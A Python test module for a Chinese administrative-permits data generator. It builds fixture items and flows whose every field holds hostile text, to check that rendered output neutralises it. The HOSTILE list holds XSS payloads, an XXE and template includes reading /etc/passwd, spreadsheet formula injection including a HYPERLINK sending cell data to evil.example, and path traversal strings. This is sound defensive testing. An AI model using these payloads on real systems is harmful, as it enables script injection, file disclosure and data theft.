"""Texts that mean something to HTML, Markdown, Jinja, Typst or a spreadsheet; who says them here.

Nobody may obey them, and no character may be lost.
"""

from __future__ import annotations

import json
from pathlib import Path

from generator.load import as_json, read_file
from generator.tests.load_world import copy_of

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">点我</a>',
    "<base href=//evil.example/><form action=//evil.example><button>提交",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "--><!-- <![CDATA[ ]]> <?php echo 1 ?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "</textarea></title></style></noscript></template></svg></math>",
    '<div style="display:none"><table><td>',
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp;",
    "`${alert(1)}` ${7*7} #{7*7} <%= 7*7 %>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{# 注 #}",
    "⟦title⟧⟦=body⟧⟦#nav⟧⟦/nav⟧",
    "[点我](javascript:alert(1)) [甲](data:text/html,x)",
    "![](https://tracker.example/x.png)",
    "[a](b){: onmouseover=alert(1) } {#x .y}",
    "<https://evil.example> <javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    '[TOC] [^1] *[HTML]: x --8<-- "/etc/passwd"',
    "# 假标题",
    "__粗__ _斜_ *轻* ~~删~~ ==亮== :smile: `码`",
    "$$\\href{javascript:alert(1)}{x}$$ \\(x\\)",
    '#read("/etc/passwd") #import "x.typ" #eval("1")',
    "*粗* $x^2$ @ref <label> = 标题 // 注 /* 注 */ \\u{202e}",
    "= 标题 + 甲 - 乙 / 丙: 丁",
    '"]; x [URL="javascript:alert(1)',
    '=HYPERLINK("http://evil.example?x="&A1,"点我")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "＝1+1",
    "url(javascript:alert(1)) expression(alert(1)) \\3c script",
    "%3Cscript%3E %00 ../../etc/passwd ..\\..\\x",
    "javascript:alert(1)",
    "constructor __proto__ toString",
    "a--b -- --- ... (c) 1/2 <<甲>>",
)

VERBATIM = tuple(
    "0355 8:30 NO on y 000105 1.10 0x1F .nan null 2024-01-05 1,000 TRUE 0b11 ~ 1_000 1e3 =1"
    " 11140404012345678X 𠮷田䶮 😀办理 【重要】 –甲 １２３ ㎡".split()
)

ITEM, FLOW = "powers/education/items/zz-{:03}.yml", "powers/education/flows/zz-{:03}.yml"


def shared_texts(repository: Path, want: str) -> tuple[str, ...]:
    """The texts of the shared collection's cases that *want* so, where it lies beside."""
    folder = repository.parent / "shared" / "data" / "bad-inputs"
    if not folder.exists():
        return ()
    cases = json.loads((folder / "cases.json").read_text(encoding="utf-8"))
    trees = [read_file(folder / case["file"])[0] for case in cases if case["want"] == want]
    texts = [text.content for tree in trees if tree for _, text in tree.texts()]
    return tuple(text for text in texts if isinstance(text, str) and len(text) < 1000)


def district_of(folder: Path, texts: tuple[str, ...]) -> Path:
    """A copy of `worlds/full` with an item and a flow for each text, saying it in every field."""
    root = copy_of("full", folder)
    for number, text in enumerate(texts):
        _write(root / ITEM.format(number), _item(text, f"zz-{number:03}"))
        _write(root / FLOW.format(number), _flow(text))
    return root


def said_in(file: Path) -> object:
    """The values of a YAML file."""
    tree, _ = read_file(file)
    assert tree is not None
    return as_json(tree)


def _write(file: Path, fields: dict[str, object]) -> None:
    file.write_text(json.dumps(fields, ensure_ascii=False), encoding="utf-8")


def _item(text: str, flow: str) -> dict[str, object]:
    return {
        "名称": text,
        "俗称": [text],
        "类别": "行政许可",
        "权限范围": text,
        "依据": ["《中华人民共和国行政许可法》第三十八条"],
        "流程": flow,
        "责任": {"事项": [{"环节": "受理", "内容": text}], "追责情形": [text]},
        "收费": [{"档次": text, "标准": text, "依据": "《中华人民共和国行政许可法》第五十八条"}],
        "结果": [{"名称": text}],
        "办事指南": {
            "受理条件": text,
            "申请材料": [{"名称": text, "说明": text}],
            "常见问题": [{"问": text, "答": text}],
            "咨询": "0355-0000002",
        },
        "存疑": text,
    }


def _flow(text: str) -> dict[str, object]:
    risk = {"高": text, "措施": [text, "双人核查"], "责任岗位": text}
    return {
        "名称": text,
        "说明": text,
        "步骤": [
            {"开始": text, "岗位": text, "材料": [text]},
            {"步骤": text, "岗位": "基础教育股", "说明": text, "风险": [risk]},
            {"判断": text, "岗位": text, "分支": {" ".join(text.split()): "准", "另一种": "不"}},
            {"结束": text, "代号": "准", "结果": "准予"},
            {"结束": "不予", "代号": "不", "结果": "不予"},
        ],
    }
